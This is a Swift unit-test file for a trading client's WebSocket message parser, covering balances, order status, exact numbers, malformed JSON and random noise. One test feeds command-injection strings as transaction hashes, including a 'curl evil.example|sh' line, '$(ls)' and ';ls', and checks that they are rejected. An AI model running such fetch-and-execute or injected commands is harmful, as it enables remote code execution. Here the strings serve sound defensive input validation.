import Cryptography
import Domain
import JSON
import Testing
import Transport

@testable import Trading

@Suite struct IncomingFrameTests {
  /// The sort of a frame in a word, to compare.
  func sort(_ text: String) -> String {
    switch IncomingFrame(.text(text)) {
    case .error(let text, let operation, let isAlone):
      "error \(operation ?? "-") \(text)\(isAlone ? "" : " +")"
    case .reply(let operation, let channel, _): "reply \(operation) \(channel ?? "-")"
    case .push(let channel, _): "push \(channel.name)"
    case .unreadable: "unreadable"
    }
  }

  @Test(arguments: [
    (#"{"op":"auth","data":{"status":"authenticated"}}"#, "reply auth -"),
    (
      #"{"op":"subscribe","ch":"balances","data":{"status":"subscribed"}}"#,
      "reply subscribe balances"
    ),
    (#"{"ch":"balances","data":[]}"#, "push balances"),
    (#"{"ch":"orders:ord_1","data":{}}"#, "push orders:ord_1"),
    (#"{"op":"news","ch":"balances","data":[]}"#, "push balances"),
    (#"{"error":"Invalid signature"}"#, "error - Invalid signature"),
    (#"{"op":"swap","error":"Internal error"}"#, "error swap Internal error"),
    (#"{"error":{"code":"X","message":"No"}}"#, "error - No"),
    (#"{"op":"swap","error":"No","data":null}"#, "error swap No"),
    (#"{"op":"swap","error":"No","data":{"orderId":"ord_1"}}"#, "error swap No +"),
    (#"{"error":"No","orderId":"ord_1"}"#, "error - No +"),
    (#"{"ch":"orders:ord_1","error":"No"}"#, "error - No +"),
    (#"{"op":"swap","error":null,"data":{}}"#, "reply swap -"),
    (#"{"op":"swap","error":"","data":{}}"#, "reply swap -"),
    (#"{"op":"dance","data":{}}"#, "unreadable"), (#"{"ch":"weather"}"#, "unreadable"),
    (#"{"op":["swap"]}"#, "unreadable"), ("[]", "unreadable"), ("", "unreadable"),
    ("null", "unreadable"), (#"{"op":"swap""#, "unreadable"), ("12", "unreadable"),
  ])
  func sortsMessages(text: String, expected: String) {
    #expect(sort(text) == expected)
  }

  @Test func takesBinaryMessagesToo() {
    guard case .push(.balances, _) = IncomingFrame(.binary(Array(#"{"ch":"balances"}"#.utf8)))
    else {
      Issue.record("not a push")
      return
    }
  }

  @Test(arguments: [
    (#"{"n":1.50}"#, "1.50"), (#"{"n":-2e+9}"#, "-2e+9"), (#"{"n":0}"#, "0"),
    (#" { "n" : "3 \" 4" } "#, "3 \" 4"), (#"{"m":[{}],"n":"\u0041\ud83d\ude00\/\n"}"#, "A😀/\n"),
    (#"{"n":"\ud83d"}"#, "\u{fffd}"), (#"{"n":"\ude00x"}"#, "\u{fffd}x"), (#"{"n":"ї"}"#, "ї"),
  ])
  func readsTextAndNumbersAsText(json: String, expected: String) throws {
    #expect(try #require(TreeValue(message: json)).text("n") == expected)
    #expect(try #require(TreeValue(message: Array(json.utf8))).text("n") == expected)
  }

  @Test(arguments: [
    "", " ", "{", "}", "[1,]", "{\"a\":1,}", "{a:1}", "{\"a\" 1}", "01", "1.", ".5", "-", "+1",
    "1e",
    "tru", "nul", "\"", "\"\\x\"", "\"\\u12\"", "\"\n\"", "[1 2]", "1 2", "{}{}", "\u{feff}{}",
    "'a'", "NaN", "//", "[1]x",
  ])
  func takesNothingThatIsNoJSON(text: String) {
    #expect(TreeValue(message: text) == nil)
    #expect(TreeValue(message: Array(text.utf8)) == nil)
  }

  @Test func takesNothingThatIsNoUTF8() {
    #expect(TreeValue(message: [0x22, 0xC3, 0x28, 0x22]) == nil)
    #expect(TreeValue(message: [0x22, 0xED, 0xA0, 0x80, 0x22]) == nil)
  }

  @Test func readsAMegabyteOfBalances() throws {
    let items = (0..<20_000).map { #"{"asset":"A\#($0)","total":"1.5","locked":"0"}"# }
    let text = #"{"ch":"balances","data":["# + items.joined(separator: ",") + "]}"
    guard case .push(.balances, let data) = IncomingFrame(.text(text)) else {
      Issue.record("not a push")
      return
    }
    let balances = try data.decode(BalancesData.self).balances
    #expect(balances.count == BalancesData.limit)
  }

  func reply(_ operation: Operation, _ json: String) throws -> Reply {
    guard case .reply(_, _, let data) = IncomingFrame(.text(json)) else {
      throw TradingError.notReady
    }
    return try Reply(to: operation, data)
  }

  @Test func readsBalancesInBothForms() throws {
    let object = try reply(
      .balances,
      #"{"op":"balances","data":{"balances":[{"asset":"ETH","total":"2.5","locked":"0.5"}]}}"#)
    let array = try reply(
      .balances,
      #"{"op":"balances","data":[{"asset":"ETH","total":2.5,"locked":0.5,"new":{}}]}"#)
    guard case .balances(let a) = object, case .balances(let b) = array else {
      Issue.record("not balances")
      return
    }
    #expect(a.balances == b.balances)
    #expect(a.balances.first?.available.plainText == "2")
    #expect(a.balances.first?.isInconsistent == false)
  }

  @Test func takesBalancesRowByRow() throws {
    let rows = [
      #"{"asset":"ETH","total":"2.5","locked":"0.5"}"#, "null", #"{"asset":"BTC","total":""}"#,
      #"{"asset":"SOL","total":"NaN","locked":"0"}"#, #"{"total":"1","locked":"0"}"#,
      #"{"asset":"ADA","total":"1","locked":"-0.5"}"#, #"{"asset":"XMR","total":"-1"}"#,
      #"{"asset":"WEI","total":1.5E+18,"locked":"1e-8"}"#, #"{"asset":"DOT","total":"3"}"#,
    ]
    let reply = try reply(
      .balances, #"{"op":"balances","data":{"balances":[\#(rows.joined(separator: ","))]}}"#)
    guard case .balances(let data) = reply else {
      Issue.record("not balances")
      return
    }
    #expect(data.balances.map(\.asset) == ["ETH", "WEI", "DOT"])
    #expect(data.balances[1].total.text == "1500000000000000000")
    #expect(data.balances[1].locked.text == "0.00000001")
    #expect(data.unreadable == ["", "BTC", "SOL", "", "ADA", "XMR"])
  }

  @Test func whatCannotBeReadStaysAsItWasAndIsMarked() {
    func balance(_ asset: String, _ total: String) -> [Balance] {
      Amount(serverText: total).map { [Balance(asset: asset, total: $0, locked: .zero)] } ?? []
    }
    var sheet = BalanceSheet()
    sheet.apply(balance("ETH", "1") + balance("BTC", "2"), isSnapshot: true, at: 10)
    sheet.apply(balance("BTC", "3"), isSnapshot: true, unreadable: ["ETH"], at: 20)
    #expect(sheet.balances.map(\.asset) == ["BTC", "ETH"])
    #expect(sheet.moments == [20, 10], "each has an age of its own")
    #expect(sheet.unreadable == ["ETH"])
    sheet.apply(balance("BTC", "4"), isSnapshot: false, at: 30)
    #expect(sheet.moments == [30, 10])
    #expect(sheet.unreadable == ["ETH"])
    sheet.apply(balance("ETH", "5"), isSnapshot: false, at: 40)
    #expect(sheet.unreadable == [])
    sheet.apply(balance("BTC", "6"), isSnapshot: true, unreadable: [""], at: 50)
    #expect(sheet.balances.count == 2, "nobody can say which is gone")
    sheet.apply(balance("BTC", "6"), isSnapshot: true, at: 60)
    #expect(sheet.balances.map(\.asset) == ["BTC"])
  }

  @Test func manyNewAssetsAreTakenAtOnceUpToABound() {
    func balances(_ names: some Sequence<String>, _ total: String = "1") -> [Balance] {
      names.compactMap { name in
        Amount(serverText: total).map { Balance(asset: name, total: $0, locked: .zero) }
      }
    }
    var sheet = BalanceSheet()
    func changes(_ news: [Balance], unreadable: [String] = [], at moment: Int64) -> Bool {
      sheet.apply(news, isSnapshot: false, unreadable: unreadable, at: moment)
    }
    sheet.apply(balances(["M", "B"]), isSnapshot: true, at: 10)
    #expect(changes(balances(["Z", "A", "M", "C", "A"], "2"), at: 20))
    #expect(sheet.balances.map(\.asset) == ["A", "B", "C", "M", "Z"])
    #expect(sheet.balances.map(\.total.text) == ["2", "1", "2", "2", "2"])
    #expect(sheet.moments == [20, 10, 20, 20, 20])
    #expect(!sheet.isCut)
    #expect(changes(balances((0..<3000).map { "N\($0)" }), at: 30))
    #expect(sheet.balances.count == BalancesData.limit && sheet.isCut)
    #expect(sheet.balances.map(\.asset) == sheet.balances.map(\.asset).sorted())
    #expect(!changes(balances(["unheard"]), at: 40), "nothing to tell anybody")
    #expect(changes(balances(["M"], "3"), at: 50))
    #expect(!changes([], unreadable: [""], at: 60))
    #expect(changes([], unreadable: ["M"], at: 70))
    #expect(!changes([], unreadable: ["M"], at: 80))
  }

  /// The largest and the smallest numbers that a server can write, where a moment is expected.
  @Test(arguments: ["9223372036854775807", "-9223372036854775808", "-1", "1e40", "253402300800000"])
  func aMomentThatCannotBeIsNone(number: String) throws {
    let json =
      #"{"op":"order_status","data":{"orderId":"o","status":"FILLED","updatedAt":\#(number)}}"#
    guard case .order(let update) = try reply(.orderStatus(id: "o"), json) else {
      Issue.record("not an order")
      return
    }
    #expect(update.updatedAt == nil)
    let quote = try reply(
      .estimate(QuoteRequest(from: "A", to: "B", amount: Amount(userText: "1"))),
      #"{"op":"estimate","data":{"expectedOut":"1","expiresAt":\#(number)}}"#)
    guard case .estimate(let data) = quote else {
      Issue.record("not an estimate")
      return
    }
    #expect(data.expiresAt == nil)
  }

  @Test func readsReasonsAndBelievesNoNegativeFill() throws {
    let long = String(repeating: "x", count: 5000)
    let json =
      #"{"op":"order_status","data":{"orderId":"o","status":"expired","filledOut":"-1","#
      + #""reason":"\#(long)"}}"#
    guard case .order(let update) = try reply(.orderStatus(id: "o"), json) else {
      Issue.record("not an order")
      return
    }
    #expect(update.status == .cancelled)
    #expect(update.filledOut == nil)
    #expect(update.reason?.count == 201)
    let bare = #"{"op":"order_status","data":{"orderId":"o","status":"EXPIRED"}}"#
    guard case .order(let other) = try reply(.orderStatus(id: "o"), bare) else { return }
    #expect(other.reason == "The server says EXPIRED.")
  }

  @Test func keepsNumbersExact() throws {
    let reply = try reply(
      .balances,
      #"{"op":"balances","data":[{"asset":"X","total":123456789012345678901234.123456789012345678,"locked":"0"}]}"#
    )
    guard case .balances(let balances) = reply else {
      Issue.record("not balances")
      return
    }
    #expect(
      balances.balances.first?.total.plainText == "123456789012345678901234.123456789012345678")
  }

  @Test(
    "A hash with anything but a hash's characters is none",
    arguments: [
      #"0x1\ncurl evil.example|sh"#, "0xab cd", #"\u202e0xab"#, #"0xab\u0000"#, #"0xab\u009b1m"#,
      "0xab;ls", "$(ls)", "хеш",
    ])
  func hashes(_ hash: String) throws {
    let json = """
      {"op":"order_status","data":{"orderId":"1","status":"filled","txHash":"\(hash)"}}
      """
    guard case .order(let update) = try reply(.orderStatus(id: "1"), json) else {
      Issue.record("not an order")
      return
    }
    #expect(update.txHash == nil)
    #expect(update.status == .filled)
  }

  @Test func readsOrdersWithOddIdsAndHashes() throws {
    let json = """
      {"op":"order_status","data":{"orderId":32588,"status":"canceled","filledOut":"",
      "txHash":"0xabc123def456789abc123def456789abc123def456789abc123def456789abc123de",
      "updatedAt":1.732526402e12,"clientOrderId":null}}
      """
    guard case .order(let update) = try reply(.orderStatus(id: "32588"), json) else {
      Issue.record("not an order")
      return
    }
    #expect(update.orderId == "32588")
    #expect(update.status == .cancelled)
    #expect(update.filledOut == nil)
    #expect(update.txHash?.count == 70)
    #expect(update.updatedAt == 1_732_526_402_000)
  }

  @Test(arguments: [
    #"{"op":"swap","data":{}}"#, #"{"op":"swap"}"#, #"{"op":"swap","data":null}"#,
    #"{"op":"swap","data":{"orderId":"","status":"PENDING"}}"#,
    #"{"op":"swap","data":{"orderId":"o"}}"#, #"{"op":"swap","data":[]}"#,
  ])
  func callsAnUnreadableSwapReplyUnknown(json: String) throws {
    let request = try SwapRequest(
      from: "A", to: "B", amount: try Amount(userText: "1"), slippageBps: 1,
      clientOrderId: try #require(ClientOrderID("x")))
    do {
      _ = try reply(.swap(request), json)
      Issue.record("was read")
    } catch let error as TradingError {
      #expect(error.isOutcomeUnknown)
    }
  }

  @Test func aWrongAcknowledgementIsARefusal() {
    #expect(throws: TradingError.refused(.other, text: "denied")) {
      try reply(.auth, #"{"op":"auth","data":{"status":"denied"}}"#)
    }
  }

  @Test func survivesDeepNesting() {
    let deep = String(repeating: "[", count: 20_000)
    #expect(sort(#"{"op":"swap","data":"# + deep) == "unreadable")
    #expect(
      sort(#"{"data":\#(deep)\#(String(repeating: "]", count: 20_000))}"#) == "unreadable")
  }

  /// Seeded noise and damaged messages: nothing may crash, whatever comes.
  @Test func survivesNoise() throws {
    let samples = [
      #"{"op":"estimate","data":{"route":[{"from_asset":"ETH","to_asset":"USDT","amount_in":"1.5","amount_out":"3245.67","pool":"0x88"}],"price":"2163.78","expectedOut":"3245.67","fee":"0.003","expiresAt":1732526400000}}"#,
      #"{"ch":"orders:ord_1","data":{"orderId":"ord_1","status":"FILLED","filledOut":"3245.67","updatedAt":1732526402000}}"#,
      #"{"ch":"balances","data":[{"asset":"USDT","total":"101.23","locked":"0"}]}"#,
      #"{"error":"Invalid signature"}"#,
    ].map { Array($0.utf8) }
    let quote = try QuoteRequest(from: "ETH", to: "USDT", amount: try Amount(userText: "1.5"))
    let random = SeededRandom(seed: 1)
    var read = 0
    for round in 0..<4000 {
      var bytes = samples[round % samples.count]
      for _ in 0...(round % 4) {
        let dice = random.bytes(4)
        let place = Int(dice[0]) * bytes.count / 256
        switch dice[1] % 4 {
        case 0: bytes[place] = dice[2]
        case 1: bytes.remove(at: place)
        case 2: bytes.insert(contentsOf: "{[\"9-e".utf8.prefix(Int(dice[2]) % 6), at: place)
        default: bytes = Array(bytes.prefix(max(1, place)))
        }
        if bytes.isEmpty { bytes = [0] }
      }
      switch IncomingFrame(.binary(bytes)) {
      case .reply(_, _, let data):
        read += 1
        if case .estimate(let estimate)? = try? Reply(to: .estimate(quote), data) {
          _ = try? Quote(quote, estimate, receivedAt: 0, uptime: .zero)
        }
      case .push(_, let data):
        read += 1
        _ = try? data.decode(BalancesData.self)
        _ = try? data.decode(OrderData.self)
      case .error, .unreadable: break
      }
    }
    #expect(read > 200, "the damage must leave some messages readable, or nothing is tried")
  }
}
